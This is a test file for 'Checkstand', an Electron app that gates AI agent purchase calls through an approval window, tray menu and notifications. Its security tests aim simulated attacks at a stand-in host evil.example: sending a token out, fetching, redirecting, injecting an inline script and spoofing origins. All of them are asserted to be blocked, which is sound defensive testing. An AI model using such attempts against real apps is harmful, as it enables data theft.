import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, onTestFinished, test, vi } from 'vitest';
import { createConfSettings } from '../../app/conf-settings.ts';
import type { Bridge, Reply } from '../../contract/bridge.ts';
import type { Goods } from '../../contract/model.ts';
import {
  approvalTitle,
  mainTitle,
  prepareShellFiles,
  startShell,
  type Shell,
} from '../support/electron-shell/start-shell.ts';
import { silentLog } from '../support/silent-log.ts';
import { tempDir } from '../support/temp-dir.ts';

/** The Electron shell on the double of Electron, around an app that the test plays. */

declare const window: { checkstand: Bridge; shell: { closeWindow(): void; openMainWindow(): void } };

let files = '';
beforeAll(async () => {
  files = mkdtempSync(join(tmpdir(), 'checkstand-shell-'));
  await prepareShellFiles(files);
});
afterAll(() => rmSync(files, { recursive: true, force: true }));

type Options = Parameters<typeof startShell>[2] & { dataDir?: string };

async function start(options: Options = {}): Promise<Shell> {
  const shell = startShell(files, options.dataDir ?? tempDir(), options);
  onTestFinished(() => stop(shell));
  await shell.until('the tray is there', ({ trays }) => trays.length > 0);
  return shell;
}

async function stop(shell: Shell): Promise<void> {
  shell.kill('SIGTERM');
  await shell.exited;
}

/** The pages of so many windows have called, so these can answer. */
async function startWithPages(pages = 2, options: Options = {}): Promise<Shell> {
  const shell = await start(options);
  await untilPagesCall(shell, pages);
  return shell;
}

function untilPagesCall(shell: Shell, pages: number): Promise<void> {
  return vi.waitFor(async () => expect(await shell.ask('surfaces')).toBe(pages), { timeout: 20_000 });
}

/** One app for a group of tests that leave it as it was. */
function sharedShell(): () => Shell {
  let shell: Shell | undefined;
  let dataDir = '';
  beforeAll(async () => {
    dataDir = mkdtempSync(join(tmpdir(), 'checkstand-shell-'));
    shell = startShell(files, dataDir);
    await shell.until('the tray is there', ({ trays }) => trays.length > 0);
    await untilPagesCall(shell, 2);
  });
  afterAll(async () => {
    if (shell) await stop(shell);
    rmSync(dataDir, { recursive: true, force: true });
  });
  return () => {
    if (!shell) throw new Error('not started');
    return shell;
  };
}

const batteries: Goods = {
  title: 'AA Batteries & Case',
  asin: 'B000000001',
  pictureId: null,
  quantity: 2,
  currency: 'USD',
  priceMinor: 1299,
  totalMinor: 2598,
  subtotalBeforeMinor: null,
  subtotalAfterMinor: null,
  seller: null,
  note: null,
};
const batteriesLine = '2 × AA Batteries && Case · $25.98';

const call = (page: Page, name: string, input: unknown = {}): Promise<Reply> =>
  page.evaluate((frame) => window.checkstand.call(frame), { name, input });

describe('the approval window', () => {
  test('comes up for a call without taking the keyboard, and goes when it is answered', async () => {
    const shell = await startWithPages();
    const hidden = (await shell.ask('state')).windows.find((it) => it.title === approvalTitle);
    expect(hidden).toMatchObject({ shownBy: null, isOnTop: true });

    await shell.ask('askFor', 'a1');
    const shown = (await shell.ask('state')).windows.find((it) => it.title === approvalTitle);
    expect(shown).toMatchObject({
      shownBy: 'showInactive',
      isFocused: false,
      // The work area of the double's screen ends at 1920, 1040.
      bounds: { x: 1920 - 420 - 16, y: 1040 - 640 - 16, width: 420, height: 640 },
    });

    await (await shell.approvalPage()).getByRole('button', { name: 'Approve a1' }).click();
    await shell.until('the window is gone', ({ windows }) => windows[0]?.shownBy === null);
    expect(await shell.ask('answers')).toEqual([{ id: 'a1', state: 'approved', resolvedBy: 'window' }]);
  });

  test('closing it only hides it: the next call brings it back', async () => {
    const shell = await startWithPages();
    await shell.ask('askFor', 'a1');
    await shell.ask('closeWindow', approvalTitle);
    expect((await shell.ask('state')).windows[0]).toMatchObject({ isDestroyed: false, shownBy: null });
    await shell.ask('record', { type: 'approval.previewed', data: { approvalId: 'a1', goods: null } });
    expect((await shell.ask('state')).windows[0]?.shownBy).toBeNull();
    await shell.ask('askFor', 'a2');
    expect((await shell.ask('state')).windows[0]?.shownBy).toBe('showInactive');
    await (await shell.approvalPage()).evaluate(() => window.shell.closeWindow());
    await shell.until('its own button hides it', ({ windows }) => windows[0]?.shownBy === null);
  });

  test('counts as somebody who can answer only while its page lives, and is revived', async () => {
    const shell = await startWithPages(1, { flags: ['--hidden'] });
    await shell.ask('crashWindow', approvalTitle);
    expect(await shell.ask('surfaces')).toBe(0);
    await vi.waitFor(async () => expect(await shell.ask('surfaces')).toBe(1), { timeout: 20_000 });
  });
});

describe('the tray', () => {
  test('offers Approve once the goods are known, and Deny at once', async () => {
    const shell = await startWithPages();
    await shell.ask('askFor', 'a1');
    const waiting = (await shell.ask('state')).trays[0];
    expect(waiting?.toolTip).toBe('Checkstand: 1 call waits for you');
    expect((await shell.ask('state')).badgeCount).toBe(1);
    const unseen = waiting?.menu[2]?.submenu.map((it) => [it.label, it.isEnabled]);
    expect(unseen?.slice(1, 3)).toEqual([
      ['Approve once (see the details first)', false],
      ['Deny', true],
    ]);

    await shell.ask('record', { type: 'approval.previewed', data: { approvalId: 'a1', goods: batteries } });
    await shell.ask('clickTrayItem', batteriesLine, 'Approve once');
    await vi.waitFor(async () =>
      expect(await shell.ask('answers')).toEqual([{ id: 'a1', state: 'approved', resolvedBy: 'tray' }]),
    );
    const after = await shell.until(
      'nothing waits',
      ({ trays }) => !trays[0]?.toolTip.includes('waits for you'),
    );
    expect(after.badgeCount).toBe(0);
    expect(after.trays[0]?.picture).not.toBe(waiting?.picture);

    await shell.ask('askFor', 'a2', { goods: batteries });
    await shell.ask('clickTrayItem', batteriesLine, 'Deny');
    await vi.waitFor(async () =>
      expect(await shell.ask('answers')).toContainEqual({ id: 'a2', state: 'denied', resolvedBy: 'tray' }),
    );
  });

  test('pauses everything and goes on', async () => {
    const shell = await startWithPages();
    const idle = (await shell.ask('state')).trays[0];
    await shell.ask('clickTrayItem', 'Pause: deny every call');
    const paused = await shell.until(
      'it says so',
      ({ trays }) => trays[0]?.toolTip.includes('paused') === true,
    );
    expect(await shell.ask('isPaused')).toBe(true);
    expect(paused.trays[0]?.menu.find((it) => it.label.startsWith('Pause:'))?.isChecked).toBe(true);
    expect(paused.trays[0]?.picture).not.toBe(idle?.picture);
    await shell.ask('clickTrayItem', 'Pause: deny every call');
    await shell.until('it goes on', ({ trays }) => trays[0]?.picture === idle?.picture);
    expect(await shell.ask('isPaused')).toBe(false);
  });

  test('says what is wrong', async () => {
    const shell = await start();
    await shell.ask('setStore', { problem: 'no browser found: install Chrome' });
    const { trays } = await shell.ask('state');
    expect(trays[0]?.menu[0]).toMatchObject({ label: 'No browser found: install Chrome', isEnabled: false });
  });

  test('stays when the window closes, and opens it again where it was', async () => {
    const dataDir = tempDir();
    const shell = await startWithPages(2, { dataDir });
    await shell.ask('closeWindow', mainTitle);
    expect(await shell.ask('surfaces')).toBe(1);
    expect(createConfSettings(dataDir, silentLog()).get().windowBounds).toEqual({
      x: 320,
      y: 140,
      width: 1280,
      height: 800,
    });
    await shell.ask('clickTray');
    const again = await shell.until('it is back', ({ windows }) => windows[2]?.shownBy === 'show');
    expect(again.windows[2]).toMatchObject({ title: mainTitle, bounds: { x: 320, y: 140 } });

    await shell.ask('askFor', 'a1');
    await shell.ask('clickTray');
    expect((await shell.ask('state')).windows[0]).toMatchObject({ shownBy: 'show', isFocused: true });
  });
});

describe('a notification', () => {
  test('shows the goods, answers by its button, and is gone afterwards', async () => {
    const shell = await startWithPages();
    await shell.ask('askFor', 'a1', { goods: batteries });
    expect((await shell.ask('state')).notifications).toEqual([
      {
        title: 'Claude Code asks: add_to_cart',
        body: '2 × AA Batteries & Case · $25.98\nit adds to your cart',
        actions: ['Approve once', 'Deny'],
        state: 'shown',
      },
    ]);
    await shell.ask('pressNotificationAction', 0, 0);
    await vi.waitFor(async () =>
      expect(await shell.ask('answers')).toEqual([
        { id: 'a1', state: 'approved', resolvedBy: 'notification' },
      ]),
    );
    await shell.until('it is gone', ({ notifications }) => notifications[0]?.state === 'closed');
  });

  test('opens the approval window by a click, and goes when answered elsewhere', async () => {
    const shell = await startWithPages();
    await shell.ask('askFor', 'a1', { goods: batteries });
    await shell.ask('clickNotification', 0);
    expect((await shell.ask('state')).windows[0]).toMatchObject({ shownBy: 'show', isFocused: true });
    await (await shell.approvalPage()).getByRole('button', { name: 'Approve a1' }).click();
    await shell.until('it is gone', ({ notifications }) => notifications[0]?.state === 'closed');
  });

  test('without buttons to approve what it could not show', async () => {
    const shell = await startWithPages();
    await shell.ask('askFor', 'a1', { goods: null, args: { path: '/'.repeat(300) } });
    expect((await shell.ask('state')).notifications[0]?.actions).toEqual(['Deny']);
  });

  test('not at all when they are switched off, nor more than three at once', async () => {
    const shell = await startWithPages();
    await call(await shell.mainPage(), 'settings.set', { isNotifying: false });
    await shell.ask('askFor', 'quiet', { goods: batteries });
    expect((await shell.ask('state')).notifications).toEqual([]);
    await call(await shell.mainPage(), 'settings.set', { isNotifying: true });
    for (const id of ['a1', 'a2', 'a3', 'a4']) await shell.ask('askFor', id, { goods: batteries });
    expect((await shell.ask('state')).notifications.filter((it) => it.state === 'shown')).toHaveLength(3);
  });
});

describe('who may call', () => {
  const shared = sharedShell();
  const forbidden = { ok: false, error: { code: 'forbidden' } };
  const snapshotFrame = { name: 'console.snapshot', input: {} };

  test('the main window may manage; the approval window may look and answer only', async () => {
    const shell = shared();
    expect(await call(await shell.mainPage(), 'gateway.pause')).toMatchObject({ ok: true });
    const approvals = await shell.approvalPage();
    expect(await call(approvals, 'console.snapshot')).toMatchObject({ ok: true });
    expect(await call(approvals, 'gateway.resume')).toMatchObject(forbidden);
    // Past its own preload, as a page that was taken over might try.
    const raw = await shell.ask('invokeAs', approvalTitle, {}, 'checkstand:call', {
      name: 'gateway.resume',
      input: {},
    });
    expect(raw).toMatchObject(forbidden);
    expect(await shell.ask('isPaused')).toBe(true);
  });

  test.each([
    ['a foreign origin in our window', { origin: 'https://evil.example' }],
    ['another host of our scheme', { origin: 'app://other' }],
    ['an opaque origin', { origin: 'null' }],
    ['a frame inside our page', { parent: 'main' as const }],
    ['a frame that is gone', { isGone: true as const }],
  ])('%s is refused', async (_what, frame) => {
    const shell = shared();
    for (const title of [mainTitle, approvalTitle]) {
      expect(await shell.ask('invokeAs', title, frame, 'checkstand:call', snapshotFrame)).toMatchObject(
        forbidden,
      );
    }
    await shell.ask('invokeAs', mainTitle, frame, 'checkstand:shell', 'close_window');
    expect((await shell.ask('state')).windows.every((it) => !it.isDestroyed)).toBe(true);
  });

  test('a window that is not ours is refused, whatever it shows', async () => {
    const shell = shared();
    await shell.ask('openForeignWindow', join(files, 'preload.cjs'));
    const raw = await shell.ask(
      'invokeAs',
      'foreign',
      { origin: 'app://console' },
      'checkstand:call',
      snapshotFrame,
    );
    expect(raw).toMatchObject(forbidden);
  });

  test.each([[null], ['console.snapshot'], [{ name: 'console.snapshot' }], [{ name: 1, input: {} }], [[]]])(
    'junk is answered as invalid input: %j',
    async (frame) => {
      const shell = shared();
      const reply = await shell.ask('invokeAs', mainTitle, {}, 'checkstand:call', frame);
      expect(reply).toMatchObject({ ok: false, error: { code: 'invalid_input' } });
    },
  );
});

describe('a page', () => {
  const shared = sharedShell();
  test('has the bridge and nothing of Electron or Node', async () => {
    const shell = shared();
    for (const page of [await shell.mainPage(), await shell.approvalPage()]) {
      const seen = await page.evaluate(() => ({
        bridge: Object.keys(window.checkstand).sort(),
        shell: Object.keys(window.shell).sort(),
        strangers: ['require', 'process', 'module', 'ipcRenderer', 'electron', '__electronDouble'].filter(
          (name) => name in window,
        ),
      }));
      expect(seen).toEqual({
        bridge: ['call', 'subscribe'],
        shell: ['closeWindow', 'openMainWindow', 'platform'],
        strangers: [],
      });
    }
  });

  test('can neither go elsewhere, nor open windows, nor reach the network', async () => {
    const shell = shared();
    const page = await shell.mainPage();
    const opened = await page.evaluate(() => globalThis.open('https://evil.example/?token=1') as unknown);
    expect(opened).toBeNull();
    const fetched = await page.evaluate(() =>
      fetch('https://evil.example/').then(
        () => 'sent',
        () => 'blocked',
      ),
    );
    expect(fetched).toBe('blocked');
    await page.evaluate(() => {
      location.href = 'https://evil.example/';
    });
    // A round trip later the page is still ours, and alive.
    expect(await call(page, 'console.snapshot')).toMatchObject({ ok: true });
    const state = await shell.ask('state');
    expect(state.windows[1]?.url).toBe('app://console/index.html');
    expect(state.leakedRequests).toEqual([]);
  });

  test('of any other kind cannot reach the network either', async () => {
    const shell = shared();
    await shell.ask('openForeignWindow', join(files, 'preload.cjs'), 'https://evil.example/');
    expect((await shell.ask('state')).leakedRequests).toEqual([]);
  });

  test("runs no script but the console's own", async () => {
    const shell = shared();
    const page = await shell.mainPage();
    const ran = await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'document.title = "inline"';
      document.body.append(script);
      return document.title;
    });
    expect(ran).toBe('index');
  });

  test('is given no permission but to copy', async () => {
    const shell = shared();
    for (const name of ['media', 'geolocation', 'notifications', 'clipboard-read', 'openExternal', 'hid']) {
      expect(await shell.ask('permission', name, 'app://console')).toEqual({ check: false, request: false });
    }
    const copy = 'clipboard-sanitized-write';
    expect(await shell.ask('permission', copy, 'app://console')).toEqual({ check: true, request: true });
    expect(await shell.ask('permission', copy, 'https://evil.example')).toEqual({
      check: false,
      request: false,
    });
  });

  test('gets every push, in order', async () => {
    const shell = shared();
    const page = await shell.mainPage();
    await page.evaluate(() => {
      const seen: number[] = [];
      Object.assign(globalThis, { seen });
      window.checkstand.subscribe((push) => push.kind === 'event' && seen.push(push.event.seq));
    });
    for (let index = 0; index < 50; index += 1) {
      await shell.ask('record', { type: 'grant.rotated', data: { grantId: 'g' } });
    }
    await page.waitForFunction(() => (globalThis as unknown as { seen: number[] }).seen.length === 50);
    const seen = await page.evaluate(() => (globalThis as unknown as { seen: number[] }).seen);
    expect(seen).toEqual(Array.from({ length: 50 }, (_, index) => index + 1));
  });
});

describe('start and end', () => {
  test('a second start brings the first to the front and ends', async () => {
    const dataDir = tempDir();
    const first = await startWithPages(2, { dataDir });
    await first.ask('minimizeWindow', mainTitle);
    const second = startShell(files, dataDir);
    expect(await second.exited).toBe(0);
    await first.until('the window is in front', ({ windows }) => {
      const main = windows.find((it) => it.title === mainTitle);
      return main?.isMinimized === false && main.isFocused;
    });
  });

  test('a start at login shows no window', async () => {
    const shell = await startWithPages(1, { flags: ['--hidden'] });
    expect((await shell.ask('state')).windows.map((it) => it.title)).toEqual([approvalTitle]);
  });

  test.each([
    ['the menu', (shell: Shell) => shell.ask('clickTrayItem', 'Quit Checkstand')],
    ['a signal', async (shell: Shell) => shell.kill('SIGTERM')],
    ['asking twice', (shell: Shell) => Promise.all([shell.ask('quit'), shell.ask('quit')])],
  ])('%s ends it once, in order, with 0', async (_how, end) => {
    const dataDir = tempDir();
    const shell = await startWithPages(2, { dataDir });
    await shell.ask('askFor', 'a1');
    await Promise.resolve(end(shell)).catch(() => undefined); // it may be gone before it can say so
    expect(await shell.exited).toBe(0);
    // The windows were still there, so that what waited was denied for that reason and not for want of a window.
    expect(readFileSync(join(dataDir, 'closed.log'), 'utf8')).toBe('closed with 2 surfaces, in time\n');
  });

  test('what hinders the start is said in a dialog that names the setting', async () => {
    const shell = startShell(files, tempDir(), {
      env: { ELECTRON_STUB_FAILURE: 'EADDRINUSE' },
      flags: ['--port=4999'],
    });
    expect(await shell.exited).toBe(1);
    expect(shell.stderr()).toContain(
      '[dialog] Checkstand cannot start: port 4999 for the MCP endpoint is taken: ' +
        'stop what uses it, give another with --port, or set `port` in config.json',
    );
  });

  test('a start option that makes no sense is said in a dialog too', async () => {
    const shell = startShell(files, tempDir(), { flags: ['--port=none'] });
    expect(await shell.exited).toBe(1);
    expect(shell.stderr()).toContain('[dialog] Checkstand cannot start: --port `none` is no port');
  });
});

describe('settings', () => {
  test('are in the file that the app without Electron reads, and it reads what that one wrote', async () => {
    const dataDir = tempDir();
    createConfSettings(dataDir, silentLog()).set({ theme: 'dark', store: 'amazon.de' });
    const shell = await startWithPages(2, { dataDir });
    expect((await shell.ask('state')).theme).toBe('dark');
    await call(await shell.mainPage(), 'settings.set', { theme: 'light', approvalExpiryMinutes: 5 });
    expect((await shell.ask('state')).theme).toBe('light');
    expect(createConfSettings(dataDir, silentLog()).get()).toMatchObject({
      theme: 'light',
      approvalExpiryMinutes: 5,
      store: 'amazon.de',
    });
  });

  test.runIf(process.platform === 'linux')(
    'start at login is an autostart entry, while it is wanted',
    async () => {
      const config = tempDir();
      mkdirSync(join(config, 'autostart'));
      const entry = join(config, 'autostart', 'checkstand.desktop');
      const dataDir = tempDir();
      const shell = await startWithPages(2, { dataDir, env: { XDG_CONFIG_HOME: config } });
      expect(existsSync(entry)).toBe(false);
      await call(await shell.mainPage(), 'settings.set', { isStartedAtLogin: true });
      expect(readFileSync(entry, 'utf8')).toContain(`"--hidden" "--data-dir=${dataDir}"`);
      await call(await shell.mainPage(), 'settings.set', { isStartedAtLogin: false });
      expect(existsSync(entry)).toBe(false);
    },
  );
});
